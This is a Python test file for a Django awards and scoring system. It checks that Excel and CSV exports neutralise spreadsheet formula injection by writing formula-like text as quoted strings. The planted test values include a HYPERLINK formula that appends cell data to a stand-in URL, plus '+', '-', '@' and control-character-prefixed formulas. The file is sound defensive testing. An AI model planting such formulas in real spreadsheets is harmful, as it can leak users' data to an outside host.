"""No Excel file the system writes ever holds a formula (issue 13, item 4).

Every workbook is written by thidua.lib.xlsx: text that starts with =, +, -, @, a tab or a
carriage return is written as a string with Excel's quote prefix (shown as typed, the text
unchanged, never evaluated, not even when the cell is edited). Each export below is made with
a formula-like text planted where a user's data reaches it — a past award imported with that
issuer and reason, a unit, an award form, a criterion and a note named so — and must return
it as that text. A last test finds every place that writes a workbook, so a new export cannot
go untested.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from thidua.awards.import_awards import HEADERS, apply_import
from thidua.awards.models import AwardForm
from thidua.campaigns.models import Campaign
from thidua.lib import csvfile, xlsx
from thidua.org.demo import AGENCY_CODE
from thidua.org.models import Unit
from thidua.scoring import sheets
from thidua.scoring.engine import Kind
from thidua.scoring.models import ScoreEntry, ScoringItem, ScoringRound
from thidua.scoring.selectors import results

from .scoring.scores_helpers import all_points, open_round, self_and_verify

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x"&A1,"x")'
# Every start the issue names, each planted somewhere.
STARTS = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parent.parent / "thidua"


def download(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


# One function per export: plant the texts, produce the file. --------------------------------


def award_register(client: Client, persona: Any) -> bytes:
    """A past award imported from Excel with a formula for its issuer and its reason."""
    book = Workbook()
    sheet: Any = book.active
    sheet.append(list(HEADERS))
    for number, text in enumerate(STARTS, start=2):
        sheet.append(
            [f"{number}/QĐ-UBND", dt.date(2019, 12, 30), text, "", "TTVH", None, "TTLDTT", text]
        )
        for column in ("C", "H"):  # typed as text (as with a leading apostrophe in Excel)
            sheet[f"{column}{number}"].data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    agency = Unit.objects.get(code=AGENCY_CODE)
    apply_import(actor=persona("lan"), agency=agency, data=buffer.getvalue(), file_name="cu.xlsx")
    client.force_login(persona("lan"))
    return download(client.get(reverse("awards:register_export")))


def award_import_template(client: Client, persona: Any) -> bytes:
    """The template lists the award forms, which an administrator names."""
    for form, text in zip(AwardForm.objects.order_by("pk"), STARTS, strict=False):
        AwardForm.objects.filter(pk=form.pk).update(name=text)
    client.force_login(persona("lan"))
    return download(client.get(reverse("awards:import_template")))


def org_import_template(client: Client, persona: Any) -> bytes:
    """No user data reaches it: it must hold no formula at all."""
    client.force_login(persona("lan"))
    return download(client.get(reverse("import_template")))


def award_list_template(client: Client, persona: Any) -> bytes:
    """No user data reaches it: it must hold no formula at all."""
    campaign = Campaign.objects.get(agency__code="SVHTTDL", year=2021)
    client.force_login(persona("lan"))
    return download(client.get(reverse("award_list_template", args=[campaign.pk])))


def _plant_in_scoring(round_: ScoringRound) -> None:
    """A criterion, its formula, a unit's name and short name, and a self-score note."""
    self_and_verify(round_, "QLDL", all_points(round_))
    leaves = round_.table.items.exclude(kind=Kind.SECTION).order_by("code")
    for item, text in zip(leaves, STARTS, strict=False):
        ScoringItem.objects.filter(pk=item.pk).update(text=text)
    section = round_.table.items.filter(kind=Kind.SECTION).order_by("code").first()
    ScoringItem.objects.filter(pk=section.pk).update(text="+section", formula=FORMULA)
    Unit.objects.filter(code="QLDL").update(name=FORMULA, short_name="-QLDL")
    ScoreEntry.objects.filter(sheet__round=round_, sheet__unit__code="QLDL").update(
        self_note="@note"
    )


def score_matrix(client: Client, persona: Any) -> bytes:
    round_ = open_round()
    _plant_in_scoring(round_)
    return sheets.matrix_workbook(results.block_results(ScoringRound.objects.get(pk=round_.pk)))


def scoring_sheet(client: Client, persona: Any) -> bytes:
    round_ = open_round()
    _plant_in_scoring(round_)
    unit = Unit.objects.get(code="QLDL")
    return sheets.scoring_sheet(ScoringRound.objects.get(pk=round_.pk), unit, sheets.SELF)


EXPORTS: dict[str, tuple[Callable[[Client, Any], bytes], set[str]]] = {
    # name: (make the file, texts that must come back as quoted strings)
    # The import trims each cell: "\t=1+1" arrives as "=1+1".
    "award register (/awards/export.xlsx)": (award_register, {t.strip() for t in STARTS}),
    "award import template": (award_import_template, set(STARTS)),
    "organisation import template": (org_import_template, set()),
    "award list template (awards)": (award_list_template, set()),
    "score matrix": (score_matrix, {*STARTS, "-QLDL", "+section"}),
    "offline scoring sheet": (scoring_sheet, {*STARTS, "@note"}),
}
# Where each is written (module, function), for the completeness test below.
WRITERS = {
    ("awards/export.py", "register_workbook"),
    ("awards/import_awards.py", "build_template"),
    ("org/import_workbook.py", "build_template"),
    ("awards/award_list.py", "build_template"),
    ("scoring/sheets.py", "matrix_workbook"),
    ("scoring/sheets.py", "scoring_sheet"),
}


@pytest.mark.parametrize("name", EXPORTS)
def test_no_excel_export_writes_a_formula(name: str, client: Client, persona: Any) -> None:
    make, planted = EXPORTS[name]
    data = make(client, persona)
    workbook = load_workbook(io.BytesIO(data))  # not data_only: formulas would show as such
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value for c in cells if c.value in planted}
    assert found == planted, f"missing from the export: {planted - found}"
    for c in cells:
        if xlsx.is_formula_like(c.value):
            # A string, intact for whoever reads the file, marked as typed with a leading
            # apostrophe so Excel shows it as text and keeps it text when edited.
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


def test_every_workbook_the_system_writes_is_covered_above() -> None:
    """Only thidua.lib.xlsx creates openpyxl workbooks; each caller of its new_workbook is
    one of the exports tested above."""
    writers, bare = set(), []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in ast.walk(tree):
            if not isinstance(function, ast.FunctionDef):
                continue
            for node in ast.walk(function):
                if isinstance(node, ast.Call):
                    called = ast.unparse(node.func)
                    if called.endswith("new_workbook") and relative != "lib/xlsx.py":
                        writers.add((relative, function.name))
                    if called.endswith("Workbook") and relative != "lib/xlsx.py":
                        bare.append(f"{relative}:{node.lineno}")
    assert bare == [], "write workbooks through thidua.lib.xlsx"
    assert writers == WRITERS


def test_the_safe_cell_keeps_numbers_and_plain_text() -> None:
    workbook = xlsx.new_workbook()
    sheet = xlsx.add_sheet(workbook, "t")
    xlsx.append(sheet, [-5, 1.5, "Bà Nguyễn Thị Hằng", "a=b", "- Như Điều 2;", "="])
    read: Any = load_workbook(io.BytesIO(xlsx.workbook_bytes(workbook))).active
    values = [(c.value, c.data_type, bool(c.quotePrefix)) for c in read[1]]
    assert values == [
        (-5, "n", False),
        (1.5, "n", False),
        ("Bà Nguyễn Thị Hằng", "s", False),
        ("a=b", "s", False),
        ("- Như Điều 2;", "s", True),
        ("=", "s", True),
    ]


def test_csv_files_write_formula_like_text_as_text() -> None:
    """The CSV files in the ZIPs (reports' summary, a dossier's manifest, the covenant's
    signatures) go through one writer: a cell that would start a formula gets an apostrophe,
    numbers and plain text are written as they are."""
    text = csvfile.csv_bytes(
        [['=HYPERLINK("http://x"&A1,"x")', "+1", "-", "@SUM(A1)", "Đơn vị A", -5, 3]]
    ).decode("utf-8")
    assert text.startswith("\ufeff")
    row = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert row == [
        '\'=HYPERLINK("http://x"&A1,"x")',
        "'+1",
        "'-",
        "'@SUM(A1)",
        "Đơn vị A",
        "-5",
        "3",
    ]


def test_every_csv_the_system_writes_goes_through_the_safe_writer() -> None:
    bare = [
        f"{path.relative_to(ROOT).as_posix()}:{number}"
        for path in ROOT.rglob("*.py")
        if path.relative_to(ROOT).as_posix() != "lib/csvfile.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if "csv.writer(" in line or "csv.DictWriter(" in line
    ]
    assert bare == [], "write CSV through thidua.lib.csvfile.csv_bytes"
